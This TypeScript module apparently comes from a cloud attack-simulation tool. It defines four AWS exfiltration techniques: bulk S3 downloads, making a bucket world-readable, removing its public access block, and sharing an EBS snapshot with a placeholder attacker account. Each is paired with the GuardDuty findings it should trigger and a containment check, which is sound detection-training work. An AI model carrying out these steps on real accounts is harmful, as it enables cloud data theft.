import { apiCall, grantsAnonymousAccess, keyRevoked, publicReadPolicy, succeeded } from '../calls.js';
import { param } from '../params.js';
import { defineTechnique, type Technique } from '../technique.js';

export const bulkDownload = defineTechnique({
  id: 'bulk-download-objects',
  name: 'Download many objects from a bucket',
  tactic: 'exfiltration',
  mitre: { id: 'T1530', name: 'Data from Cloud Storage' },
  description:
    'List a bucket under a prefix, then download its first objects one by one. Each GetObject is an S3 data event: trails record them only with data events on, but GuardDuty S3 protection sees them either way. The data is gone once taken, so the move counts as contained once its key is revoked.',
  calls: ['s3:ListObjects', 's3:GetObject'],
  params: {
    bucket: param.bucket({ label: 'Bucket', help: 'Bucket to read.' }),
    prefix: param.text(false, 1_024, { label: 'Prefix', help: 'Only objects whose key starts with this; empty for all.' }),
    maxObjects: param.count(1, 1_000, { label: 'Objects', defaultValue: '100', help: 'How many objects to download at most, in key order.' }),
  },
  findingTypes: ['Exfiltration:S3/AnomalousBehavior', 'UnauthorizedAccess:S3/TorIPCaller', 'Discovery:S3/AnomalousBehavior'],
  plan: (params, context) => {
    const bucket = context.state.buckets[params.bucket];
    const region = bucket?.region ?? context.region;
    const prefix = params.prefix ?? '';
    const listing = apiCall('s3', 'ListObjects', prefix === '' ? { bucketName: params.bucket } : { bucketName: params.bucket, prefix }, region);
    const keys = (bucket?.objects ?? [])
      .map((object) => object.key)
      .filter((key) => key.startsWith(prefix))
      .sort()
      .slice(0, params.maxObjects);
    return [listing, ...keys.map((key) => apiCall('s3', 'GetObject', { bucketName: params.bucket, key }, region))];
  },
  isContained: (params, _outcomes, state) => keyRevoked(state, params.accessKey),
});

export const publicBucketPolicy = defineTechnique({
  id: 'make-bucket-public',
  name: 'Make a bucket world-readable',
  tactic: 'exfiltration',
  mitre: { id: 'T1530', name: 'Data from Cloud Storage' },
  description:
    "Replace a bucket's policy with one that lets anyone read it, then fetch the data later without credentials. S3 rejects the policy while the bucket's public access block blocks public policies, so remove that first. Contained once the policy no longer grants anonymous access or the block is back.",
  calls: ['s3:PutBucketPolicy'],
  params: { bucket: param.bucket({ label: 'Bucket', help: 'Bucket to open.' }) },
  findingTypes: ['Policy:S3/BucketAnonymousAccessGranted', 'UnauthorizedAccess:S3/TorIPCaller'],
  plan: (params, context) => [apiCall('s3', 'PutBucketPolicy', { bucketName: params.bucket, policy: publicReadPolicy(params.bucket) }, context.state.buckets[params.bucket]?.region ?? context.region)],
  isContained: (params, outcomes, state) => {
    if (succeeded(outcomes, 'PutBucketPolicy').length === 0) return true;
    const bucket = state.buckets[params.bucket];
    if (bucket === undefined) return true;
    return !grantsAnonymousAccess(bucket.policy) || bucket.publicAccessBlock?.restrictPublicBuckets === true;
  },
});

export const removePublicAccessBlock = defineTechnique({
  id: 'remove-public-access-block',
  name: "Remove a bucket's public access block",
  tactic: 'exfiltration',
  mitre: { id: 'T1530', name: 'Data from Cloud Storage' },
  description:
    "Delete a bucket's public access block so that a public bucket policy or ACL can take effect. Often the step before making a bucket public. Contained once all four block settings are on again.",
  calls: ['s3:DeletePublicAccessBlock'],
  params: { bucket: param.bucket({ label: 'Bucket', help: 'Bucket to unblock.' }) },
  findingTypes: ['Policy:S3/BucketBlockPublicAccessDisabled', 'UnauthorizedAccess:S3/TorIPCaller'],
  plan: (params, context) => [apiCall('s3', 'DeletePublicAccessBlock', { bucketName: params.bucket }, context.state.buckets[params.bucket]?.region ?? context.region)],
  isContained: (params, outcomes, state) => {
    if (succeeded(outcomes, 'DeletePublicAccessBlock').length === 0) return true;
    const block = state.buckets[params.bucket]?.publicAccessBlock;
    if (state.buckets[params.bucket] === undefined) return true;
    return block !== null && block !== undefined && block.blockPublicAcls && block.ignorePublicAcls && block.blockPublicPolicy && block.restrictPublicBuckets;
  },
});

export const shareSnapshot = defineTechnique({
  id: 'share-snapshot',
  name: 'Share a snapshot with an outside account',
  tactic: 'exfiltration',
  mitre: { id: 'T1537', name: 'Transfer Data to Cloud Account' },
  description:
    "Add the attacker's AWS account to an EBS snapshot's create-volume permission, then copy the disk from that account. No data leaves through this account's network. Contained once the snapshot is no longer shared with that account.",
  calls: ['ec2:ModifySnapshotAttribute'],
  params: {
    snapshotId: param.snapshot({ label: 'Snapshot', help: 'Snapshot to share.' }),
    outsideAccountId: param.accountId({ label: 'Outside account', defaultValue: '666666666666', help: "The attacker's AWS account id." }),
  },
  findingTypes: ['Exfiltration:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  plan: (params, context) => [
    apiCall('ec2', 'ModifySnapshotAttribute', { snapshotId: params.snapshotId, operationType: 'add', userIds: [params.outsideAccountId] }, context.state.snapshots[params.snapshotId]?.region ?? context.region),
  ],
  isContained: (params, outcomes, state) => {
    if (succeeded(outcomes, 'ModifySnapshotAttribute').length === 0) return true;
    const snapshot = state.snapshots[params.snapshotId];
    return snapshot === undefined || !snapshot.sharedWith.includes(params.outsideAccountId);
  },
});

export const exfiltrationTechniques: Technique[] = [bulkDownload, publicBucketPolicy, removePublicAccessBlock, shareSnapshot];
